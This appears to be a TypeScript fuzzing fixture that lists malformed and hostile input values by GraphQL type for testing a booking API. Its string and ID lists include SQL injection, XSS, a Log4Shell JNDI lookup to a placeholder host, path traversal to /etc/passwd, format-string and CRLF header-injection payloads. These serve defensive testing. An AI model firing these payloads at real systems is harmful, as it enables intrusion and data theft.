/** Values that break naive code, by the GraphQL type they pretend to be. */
export const HOSTILE_STRINGS = [
  '',
  ' ',
  '\t\n',
  'a'.repeat(10_000),
  '\u0000',
  '\ud800',
  '\u202Egnp.exe',
  '👨‍👩‍👧‍👦'.repeat(50),
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǒ̥̜̤͖̟͛g̘͑ͧ̚ǫ',
  '北京市东城区'.repeat(500),
  "' OR '1'='1",
  '"; DROP TABLE bookings; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://example.org/a}',
  '../../../../etc/passwd',
  '%s%s%n',
  '\r\n\r\nX-Injected: 1',
  'null',
];

/** `plausible` cut, or padded with x, to exactly `length` characters: a text at or past a limit. */
export const textOfLength = (plausible: unknown, length: number): string =>
  (typeof plausible === 'string' ? plausible : '').slice(0, length).padEnd(length, 'x');

export const HOSTILE_INTS = [0, -1, -2_147_483_648, 2_147_483_647, 2_147_483_648, 1.5, '7', true];

export const HOSTILE_FLOATS = [-0, -1, 1e308, -1e308, 'NaN', '1'];

export const HOSTILE_BOOLEANS = ['true', 1, 'yes'];

export const HOSTILE_IDS = [
  '',
  '0',
  '-1',
  '1.5',
  '999999999999999999999',
  '1e3',
  'abc',
  '1 OR 1=1',
  'x'.repeat(1000),
  '١٢',
  12,
];

export const HOSTILE_DATES = [
  '',
  'now',
  '2026-02-30T10:00:00+08:00',
  '2026-06-01T10:00:00',
  '2026-13-01T00:00:00Z',
  '0001-01-01T00:00:00Z',
  '1970-01-01T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '+275760-09-13T00:00:00Z',
  1_234_567_890,
];

export const HOSTILE_ENUMS = (first: string) => ['NOT_A_VALUE', '', first.toLowerCase(), 0];
